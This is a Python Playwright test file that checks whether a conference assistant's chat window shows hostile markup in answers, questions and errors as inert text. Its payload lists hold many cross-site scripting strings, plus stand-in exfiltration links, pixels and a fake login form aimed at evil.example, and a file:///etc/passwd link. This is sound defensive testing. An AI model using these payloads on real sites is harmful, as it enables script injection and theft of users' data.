"""The window in a real Chromium: whatever an answer holds, it stays text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from playwright.async_api import expect

from assistants.links import without_foreign_links

if TYPE_CHECKING:
    from tests.e2e.window_page import WindowPage

pytestmark = [pytest.mark.e2e, pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

MARKUP = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "[![pixel](https://evil.example/pixel.png)](https://ep.example)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>cover</p>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video src=https://evil.example/v.mp4 autoplay onplay=alert(1)></video><audio src=https://evil.example/a.mp3>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)><div onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</div>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>html link</a>",
    "<a href='https://ep.example' onclick=alert(1) id=field name=field>clobber</a>",
    "<p data-x=1 aria-label=x class=notice id=status role=alert tabindex=0>attributes</p>",
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java&#10;script:alert(1))",
    "[link](&#106;avascript:alert(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    "[link](vbscript:msgbox(1))",
    "[link](blob:https://evil.example/1)",
    "[link](file:///etc/passwd)",
    "[relative](/api/messages)",
    "[other](//evil.example)",
    '[quoted](https://ep.example"onmouseover="alert(1))',
    '[title](https://ep.example "x\\" onmouseover=\\"alert(1)")',
    "<https://ep.example/?q='onmouseover=alert(1)'>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\ncode\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    "- [x] <input onfocus=alert(1) autofocus>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[ref]\n\n[ref]: mailto:evil@evil.example?body=x",
    "[mail](mailto:evil@evil.example?body=x) <evil@evil.example> evil@evil.example",
    "<a href=mailto:evil@evil.example>mail</a>",
    "[user](https://ep.example@evil.example) [letters](https://\u0435p.example)",
]

ATTACKS = Path(__file__).parents[2] / "standins/attacks.jsonl"
SPELLINGS = [
    attack["text"]
    for attack in map(json.loads, ATTACKS.read_text("utf-8").splitlines())
    if attack["kind"].startswith("link spelling")
]
REFERENCES = [
    "See [the plan][r] or [r] or [r][].\n\n[r]: https://evil.example/?q=secret",
    "[r]: https:\\/\\/evil.example/?q=secret\n\nSee [the plan][r].",
    "[r]: &#104;ttps&#58;&#47;&#47;evil.example\n'a title'\n\nSee [the plan][r].",
    "[r]: <mailto:evil@evil.example?body=secret>\n\nSee [the plan][r].",
    "> - [r]: https:\\/\\/evil.example\n\nSee [the plan][r].",
    "[mail](mailto:evil@evil.example) <evil@evil.example> evil@evil.example **evil@evil.example**",
    "[odd](&#104;ttps://evil.example) [odd](https://ep.example&sol;@evil.example) <&#104;ttps://evil.example>",
]
"""Of which the window makes no anchor at all, or but one that shows the whole address as its words."""

LEFT_OVERS = """() => {
  const root = document.querySelector(".answer:last-child .markdown");
  const allowed = new Set(["P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "HR", "A", "UL", "OL", "LI",
    "DIV", "H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"]);
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    if (!allowed.has(element.tagName)) found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      const isFrame = element.tagName === "DIV" && ["class", "tabindex"].includes(name);
      if (!["href", "target", "rel", "start", "align"].includes(name) && !isFrame) found.push(`${name}=${value}`);
      if (name === "href" && !/^https?:\\/\\/[\\w.-]+([/?#]|$)/.test(value)) found.push(value);
    }
  }
  return found;
}"""

ANCHORS = """async (texts) => {
  const { MarkdownView } = await import("/widget/markdown.js");
  return texts.map((text) => {
    const place = document.createElement("div");
    new MarkdownView(place).show(text, { anew: true });
    return [...place.querySelectorAll("[href]")].map((anchor) => [anchor.href, anchor.textContent]);
  });
}"""
"""Of each text the anchors, as the browser understands their addresses, and their words."""


async def test_hostile_markup_in_an_answer_is_shown_as_text_or_not_at_all(window: WindowPage) -> None:
    for number, markup in enumerate(MARKUP, 1):
        window.server.answers_at_once = f"Before {number}.\n\n{markup}\n\nAfter."
        await window.type(f"Go on {number}?")
        await expect(window.text, markup).to_contain_text(f"Before {number}.")
        await window.is_idle()
        assert await window.page.evaluate(LEFT_OVERS) == [], markup
        assert (window.watch.dialogs, window.watch.errors, window.watch.violations) == ([], [], []), markup
        await expect(window.field, markup).to_be_visible()
    await expect(window.page).to_have_title("Erleah · Conference assistant")
    # The fixture then looks for foreign hosts.


async def test_the_second_layer_alone_lets_no_markup_through_either(window: WindowPage) -> None:
    """Were markdown ever to pass HTML on, the sanitiser still stops it."""
    found = await window.page.evaluate(
        f"""async (pieces) => {{
          const {{ safeFragment }} = await import("/widget/safe_html.js");
          const place = document.createElement("div");
          place.className = "answer";
          place.innerHTML = '<div class="markdown"></div>';
          document.querySelector("#transcript").append(place);
          for (const piece of pieces) place.firstChild.append(safeFragment(piece));
          return ({LEFT_OVERS})();
        }}""",
        MARKUP,
    )
    assert found == []
    # The policy also holds in the inert document in which the sanitiser reads; what it says of that is no breach.
    window.watch.console.clear()


async def test_no_spelling_of_a_link_becomes_an_anchor_elsewhere(window: WindowPage) -> None:
    """What the worker writes of such an answer, at each of its lengths, has anchors to trusted hosts alone."""
    hosts = {"clay-days.example"}
    texts = [without_foreign_links(text, hosts, whole=True) for text in SPELLINGS]
    for text in SPELLINGS:
        texts += {without_foreign_links(text[:length], hosts, whole=False) for length in range(min(len(text), 400))}
    trusted = "[it](https://clay-days.example/a), https://clay-days.example/b and www.clay-days.example"
    *found, of_trusted = await window.page.evaluate(
        ANCHORS, [*texts, without_foreign_links(trusted, hosts, whole=True)]
    )
    assert len(of_trusted) == 3
    assert len(found) > len(SPELLINGS) > 10
    for text, anchors in zip(texts, found, strict=True):
        for address, _ in anchors:
            assert urlsplit(address).hostname in {"clay-days.example", "www.clay-days.example"}, text


async def test_the_window_alone_follows_no_reference_and_links_no_mail(window: WindowPage) -> None:
    """Were such an answer ever to come to it as it was written: the words of an anchor are its address."""
    for text, anchors in zip(REFERENCES, await window.page.evaluate(ANCHORS, REFERENCES), strict=True):
        for address, words in anchors:
            assert address.rstrip("/") == words.rstrip("/"), text


async def test_of_an_image_its_words_are_shown_and_nothing_is_loaded(window: WindowPage) -> None:
    answer_id = await window.ask("Where?")
    await window.server.write(
        answer_id, "![The **map**](https://evil.example/map.png) of it", seq=1, status="completed"
    )
    await expect(window.text).to_have_text("The map of it")


async def test_questions_and_suggestions_are_text_too(window: WindowPage) -> None:
    question = "<img src=x onerror=alert(1)> **bold** <b>b</b>"
    answer_id = await window.ask(question)
    suggestion = "<script>alert(2)</script>"
    await window.server.write(
        answer_id, "Fine.", seq=1, status="completed", metadata={"suggestions": [suggestion], "sources": suggestion}
    )
    await expect(window.questions).to_have_text(question)
    await expect(window.answer.locator(".chip")).to_have_text(suggestion)
    assert await window.page.locator("#transcript :is(img, b, script)").count() == 0


@pytest.mark.parametrize("metadata", [None, [], "text", {"suggestions": "text"}, {"suggestions": {"a": 1}}, 7])
async def test_metadata_of_another_shape_harms_nothing(window: WindowPage, metadata: object) -> None:
    answer_id = await window.ask("Hello?")
    await window.server.write(answer_id, "Hi.", seq=1, status="completed", metadata=metadata)
    await expect(window.text).to_have_text("Hi.")
    await window.is_idle()


@pytest.mark.parametrize(
    "text",
    [">" * 20_000 + "x", "[" * 20_000, "*" * 20_000, "`" * 9_999, "- " * 5_000, "a" * 50_000, "**a " * 5_000],
    ids=["quotes", "brackets", "stars", "backticks", "lists", "one word", "open bold"],
)
async def test_a_text_made_to_choke_on_is_shown_in_time(window: WindowPage, text: str) -> None:
    answer_id = await window.ask("Hello?")
    await window.server.write(answer_id, text, seq=1)
    await window.server.write(answer_id, text, seq=2, status="completed")
    await window.is_idle()
    await expect(window.text.locator(":scope > *")).not_to_have_count(0)
    await window.field.fill("still alive")


async def test_what_directus_and_the_receiver_say_in_errors_is_shown_as_text(window: WindowPage) -> None:
    body = json.dumps({"error": "x", "message": "text: <img src=x onerror=alert(1)>", "request_id": ""})
    await window.page.route("**/api/messages", lambda route: route.fulfill(status=422, body=body))
    await window.type("Hello?")
    await expect(window.notice).to_contain_text("<img src=x onerror=alert(1)>")
    assert await window.notice.locator("img").count() == 0
